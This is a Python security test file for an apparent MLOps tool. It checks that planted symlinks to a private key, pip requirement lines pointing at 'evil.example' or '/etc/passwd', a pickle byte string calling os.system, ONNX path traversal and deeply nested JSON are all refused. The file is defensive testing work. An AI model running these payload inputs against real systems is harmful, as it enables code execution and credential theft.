"""What lies among a run's or a model's files may be put there by somebody else: it is neither followed nor run."""

import os
from pathlib import Path

import numpy as np
import pytest
import yaml

from jupyter_mlops.errors import BadInput
from jupyter_mlops.project import Project
from jupyter_mlops.serving.requests import read as read_request
from jupyter_mlops.store import Store, files_below, formats, open_store
from jupyter_mlops.store.models import read_model
from jupyter_mlops.tracking.isolating import environment


def _link(place: Path, secret: Path) -> None:
    place.symlink_to(secret)


def _folder_link(place: Path, secret: Path) -> None:
    place.symlink_to(secret.parent, target_is_directory=True)


def _pipe(place: Path, _secret: Path) -> None:
    os.mkfifo(place)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "id_rsa").write_text("not for you")
    return tmp_path / "home" / "id_rsa"


@pytest.mark.parametrize("planted", [_link, _folder_link, _pipe])
def test_a_link_or_pipe_among_a_models_files_is_refused(tmp_path: Path, secret: Path, planted):
    (tmp_path / "model").mkdir()
    planted(tmp_path / "model" / "weights", secret)
    with pytest.raises(BadInput, match="not an ordinary file"):
        files_below(tmp_path / "model")


def test_a_link_or_pipe_among_a_runs_files_is_not_followed(project: Project, secret: Path):
    store = open_store(project)
    run = store.create_run("train", "one", key="k")
    store.log_text(run, "x = 1", "slice.py")
    place = Path(store.client.get_run(run).info.artifact_uri.removeprefix("file://")) / "slice.py"
    for planted, asked in ((_link, "slice.py"), (_pipe, "slice.py")):
        place.unlink()
        planted(place, secret)
        _refused(store, run, asked)
    (place.parent / "modules").symlink_to(secret.parent, target_is_directory=True)
    _refused(store, run, f"modules/{secret.name}")


def _refused(store: Store, run: str, path: str) -> None:
    with pytest.raises(BadInput, match="not an ordinary file"):
        store.artifact(run, path)
    assert store.text(run, path) == ""


@pytest.mark.parametrize(
    "line",
    [
        "--index-url=http://evil.example/simple",
        "-r/etc/passwd",
        "-e.",
        "evil@git+https://evil.example/x",
        "./evil",
        "file:///tmp/evil",
        "numpy==1.0;import os",
        "numpy==1.0,--pre",
        "numpy",
    ],
)
def test_requirements_that_are_no_pins_install_nothing(line: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    with pytest.raises(BadInput, match="nothing was installed"):
        environment(["numpy==2.4.6", line])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("flavor", "file", "content"),
    [
        ("statsmodels", "model.statsmodels", b"\x80\x04cos\nsystem\n."),
        ("pytorch", "data/model.pth", b"PK\x03\x04"),
        ("tensorflow", "data/model.keras", b"PK\x03\x04"),
        ("onnx", "model.onnx", b"\x08\x07 ../../../../etc/passwd"),
        ("sklearn", "model.joblib", b"x"),
        ("numpy", "weights.npy", None),
    ],
)
def test_other_formats_are_not_read(tmp_path: Path, flavor: str, file: str, content: bytes | None):
    place = tmp_path / file
    place.parent.mkdir(exist_ok=True)
    if content is None:
        np.save(place, np.array([print], dtype=object), allow_pickle=True)
    else:
        place.write_bytes(content)
    flavors = {flavor: {}, "python_function": {"loader_module": f"mlflow.{flavor}"}}
    (tmp_path / "MLmodel").write_text(yaml.safe_dump({"flavors": flavors}))
    with pytest.raises(BadInput, match="only models saved as skops are loaded"):
        read_model(tmp_path)
    if content and content.startswith(b"\x80"):
        assert formats.running(tmp_path) == ["pickle"]


@pytest.mark.parametrize(
    "body", [b"[" * 100_000, b'{"inputs":' * 100_000, b'{"inputs": ' + b"[" * 9_999 + b"]" * 9_999 + b"}"]
)
def test_what_is_nested_without_end_is_refused(body: bytes):
    with pytest.raises(BadInput, match=r"nested|expected"):
        read_request(body, "application/json").rows(["a"])
